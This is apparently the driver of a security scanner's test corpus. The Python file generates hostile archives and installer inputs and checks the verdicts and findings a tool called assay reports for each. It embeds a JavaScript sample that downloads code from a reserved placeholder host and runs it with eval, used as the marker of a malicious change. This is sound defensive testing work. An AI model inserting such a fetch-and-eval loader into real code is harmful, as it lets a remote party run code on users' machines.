#!/usr/bin/env python3
"""The hostile corpus: inputs that an enemy who has our source would try, each with what assay must say of it.

    hostile.py FOLDER [WORD...]     writes the inputs whose name holds one of the words; without words: all

An input is a function that returns its bytes. It stands in the file of its kind (hostile_zip.py, ...) under a line
that names the outcome:

    @hostile(6, "names-differ.zip", inspect="review: AS-0034", diff="review: AS-0034")

"verdict: word, word": that verdict, and each word stands in an id, a reason, a title or a piece of evidence of the
document. Several verdicts with "|" between them are for a place where more than one is right. The number is that of
the family of inputs; every number from 1 to 98 has at least one input. `old` is the ordinary release that the input
is compared with; by default one of the same ending. Nothing here runs anywhere: payloads are inert and hosts reserved.
"""

import os
import re
import sys

sys.dont_write_bytecode = True

FAMILIES = range(1, 99)

# What a malicious change looks like; only ever read. It is found wherever it can be seen.
MARKER = (b"\nrequire('https').get('https://cdn.sample-static.example/x', function (r) {\n"
          b"\tvar s = '';\n\tr.on('data', function (d) { s += d; });\n"
          b"\tr.on('end', function () { eval(s); });\n});\n")
ORDINARY_JS = b"'use strict';\nmodule.exports = function add(a, b) {\n\treturn a + b;\n};\n"

CASES = []


class Case:
    def __init__(self, number, name, build, inspect, diff, options, old):
        self.number, self.name, self.build = number, name, build
        self.inspect, self.diff = Outcome(inspect), Outcome(diff)
        self.options, self.old = options, old


class Outcome:
    """A verdict, or one of several, and the words that the document must hold."""

    def __init__(self, text):
        self.text = text
        verdicts, _, words = text.partition(": ")
        self.verdicts = verdicts.split("|")
        self.words = [w.strip() for w in words.split(",") if w.strip()]

    def missing(self, document):
        """What does not hold, as words; empty when all does."""
        wrong = []
        if document["verdict"] not in self.verdicts:
            wrong.append("verdict %s, not %s" % (document["verdict"], "|".join(self.verdicts)))
        said = spoken(document)
        wrong += ["nothing says \"%s\"" % w for w in self.words if w.lower() not in said]
        return wrong


def spoken(document):
    """Everything that a document says besides names, in lower case."""
    parts = [b["reason"] for b in document["coverage"]["blind"]]
    for f in document["findings"]:
        parts += [f["id"], f["behaviour"], f["title"], f["why"], f["untrusted"]["evidence"]]
    return "\n".join(parts).lower()


def hostile(number, name, inspect, diff, options=(), old=None):
    def add(build):
        CASES.append(Case(number, name, build, inspect, diff, options, old))
        return build
    return add


def ending(name):
    """".tar.gz" of "a-1.0.tar.gz": what decides the ordinary release beside it."""
    return re.search(r"(\.tar)?\.[a-z0-9]+$|$", name).group(0)


def collect():
    """All cases, in the order of their numbers."""
    import hostile_archive, hostile_disguise, hostile_image               # noqa: F401
    import hostile_installer, hostile_names                               # noqa: F401
    import hostile_program, hostile_stream, hostile_text, hostile_volume, hostile_zip   # noqa: F401
    return sorted(CASES, key=lambda c: c.number)


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    os.makedirs(argv[1], exist_ok=True)
    for case in collect():
        if argv[2:] and not any(w in case.name for w in argv[2:]):
            continue
        data = case.build()
        with open(os.path.join(argv[1], "%02d-%s" % (case.number, case.name)), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    # under one name only, so that the files of the kinds add to this list
    sys.modules["hostile"] = sys.modules["__main__"]
    main(sys.argv)
